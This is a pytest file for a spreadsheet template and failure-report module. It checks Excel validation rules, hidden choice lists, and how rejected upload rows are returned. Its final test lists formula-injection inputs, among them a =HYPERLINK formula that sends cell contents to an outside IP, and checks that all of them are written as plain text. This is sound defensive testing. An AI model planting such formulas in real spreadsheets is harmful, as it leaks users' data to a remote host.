"""Templates and failure files: what a user fills in, and gets back."""

import zipfile
from datetime import date
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from outpost.core.sheets.columns import Choice, Column, ColumnKind, Sheet
from outpost.core.sheets.failures import Note, write_failures
from outpost.core.sheets.reading import open_table
from outpost.core.sheets.template import write_template
from outpost.testing.rows import read_rows

pytestmark = pytest.mark.rules

TOWNS = tuple(Choice(f"4401151{n:02}", f"第{n}个镇街的名称相当长", f"Town, number {n}") for n in range(60))
STAFF = Sheet(
    "staff",
    "员工",
    (
        Column("name", "姓名", required=True, example="张三"),
        Column("document_number", "身份证号码", required=True, kind=ColumnKind.IDENTIFIER, help="18 位"),
        Column(
            "result",
            "检测结果",
            kind=ColumnKind.CHOICE,
            choices=(Choice("negative", "阴性", "negative"), Choice("positive", "阳性", "positive")),
        ),
        Column("town", "所属镇街", kind=ColumnKind.CHOICE, choices=TOWNS),
        Column("joined_on", "入职日期", kind=ColumnKind.DATE, example="2022-06-01"),
    ),
)
ZONE = ZoneInfo("Asia/Shanghai")


def rules_of(sheet: Worksheet) -> dict[str, object]:
    return {str(rule.sqref).split(":")[0]: rule for rule in sheet.data_validations.dataValidation}


@pytest.mark.parametrize(("language", "first"), [("zh-hans", "姓名*"), ("en", "Name*")])
def test_untouched_template_holds_no_row(language: str, first: str, tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_template(path, STAFF, language)
    with open_table(path, STAFF) as table:
        assert table.headers[0] == first
        assert table.layout.unknown == ()
        assert list(table.rows()) == []


def test_template_guides_the_hand(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_template(path, STAFF, "zh-hans")
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    assert [cell.value for cell in sheet[1]] == ["姓名*", "身份证号码*", "检测结果", "所属镇街", "入职日期"]
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].number_format == "@"
    rules = rules_of(sheet)
    assert rules["C2"].formula1 == '"阴性,阳性"'  # type: ignore[attr-defined]
    assert rules["D2"].formula1 == "lists!$D$1:$D$60"  # type: ignore[attr-defined]
    assert "张三" in rules["A2"].prompt  # type: ignore[attr-defined]
    assert book["lists"].sheet_state == "hidden"
    assert book["lists"]["D60"].value == TOWNS[59].zh
    guide = [[cell.value for cell in row] for row in book.worksheets[1].iter_rows(min_row=2)]
    assert [row[0] for row in guide] == [column.zh for column in STAFF.columns]
    assert guide[1][5] == "18 位"


def test_filled_template_is_read(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_template(path, STAFF, "zh-hans")
    book = openpyxl.load_workbook(path)
    for place, cell in enumerate(["张三", "440106199001017779", "阴性", TOWNS[3].zh, date(2022, 6, 1)], 1):
        book.worksheets[0].cell(2, place, cell)
    book.save(path)
    with open_table(path, STAFF) as table:
        (row,) = read_rows(table, ZONE)
    assert row.errors == ()
    assert row.values == {
        "name": "张三",
        "document_number": "440106199001017779",
        "result": "negative",
        "town": "440115103",
        "joined_on": date(2022, 6, 1),
    }


@pytest.mark.parametrize(("language", "reason"), [("zh-hans", "失败原因"), ("en", "Failure reason")])
def test_failures_come_back_as_they_were_with_reasons(language: str, reason: str, tmp_path: Path) -> None:
    upload = tmp_path / "upload.csv"
    upload.write_text(
        "备注,证件类型,身份证号码,姓名,检测结果,失败原因\n=1+1,x,4.40106E+17,,未知,old\n,,440106199001017779,张三,阴性,old\n"
    )
    path = tmp_path / "failures.xlsx"
    with open_table(upload, STAFF) as table:
        rejected = [(row.cells, row.errors) for row in read_rows(table, ZONE) if row.errors]
        written = write_failures(path, table.layout, rejected, language)
    assert len(rejected) == 1
    assert written.rows == 1
    lines = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert lines[0] == ("备注", "证件类型", "身份证号码", "姓名", "检测结果", reason)
    assert lines[1][:5] == ("'=1+1", "x", "4.40106E+17", None, "未知")
    assert len(str(lines[1][5]).split("；" if language == "zh-hans" else "; ")) == 3
    with open_table(path, STAFF) as again:
        (row,) = read_rows(again, ZONE)
    assert row.cells[:5] == ["=1+1", "x", "4.40106E+17", "", "未知"]
    assert len(row.errors) == 3
    assert {file.name for file in tmp_path.iterdir()} == {"failures.xlsx", "upload.csv"}


@pytest.mark.parametrize(("language", "title"), [("zh-hans", "提示"), ("en", "Notes")])
def test_notes_stand_on_a_second_sheet(language: str, title: str, tmp_path: Path) -> None:
    layout = STAFF.match(["姓名", "身份证号码"])
    write_failures(tmp_path / "a.xlsx", layout, [], language, notes=[Note(2, "x", 3), Note(0, "y")])
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert len(book.sheetnames) == 2
    assert list(book[title].iter_rows(min_row=2, values_only=True)) == [(2, "x", 3), (None, "y", None)]


def test_failures_in_one_go(tmp_path: Path) -> None:
    layout = STAFF.match(["姓名", "身份证号码"])
    written = write_failures(tmp_path / "a.xlsx", layout, [(["张三", 4.5], []), ([], [])], "zh-hans")
    assert written.rows == 2
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").active["B2"].value == "4.5"


HOSTILE = (
    '=HYPERLINK("http://203.0.113.9/?"&A1,"点")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "http://203.0.113.9/",
    "007",
    'a",b',
)


@pytest.mark.promise("F1")
@pytest.mark.parametrize("count", [1, 60])
def test_whatever_a_choice_says_is_text(count: int, tmp_path: Path) -> None:
    texts = [f"{text}{n}" for n in range(count) for text in HOSTILE]
    choices = tuple(Choice(text) for text in texts)
    columns = tuple(
        Column(f"c{place}", text, kind=ColumnKind.CHOICE, choices=choices, example=text, help=text)
        for place, text in enumerate(texts[: len(HOSTILE)])
    )
    path = tmp_path / "template.xlsx"
    write_template(path, Sheet("hostile", "表", columns), "zh-hans")
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")}
    assert not [name for name, text in parts.items() if "<f>" in text or "<hyperlink" in text]
    book = openpyxl.load_workbook(path)
    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    hidden = [str(cell.value) for cell in book["lists"]["A"]]
    assert hidden == texts
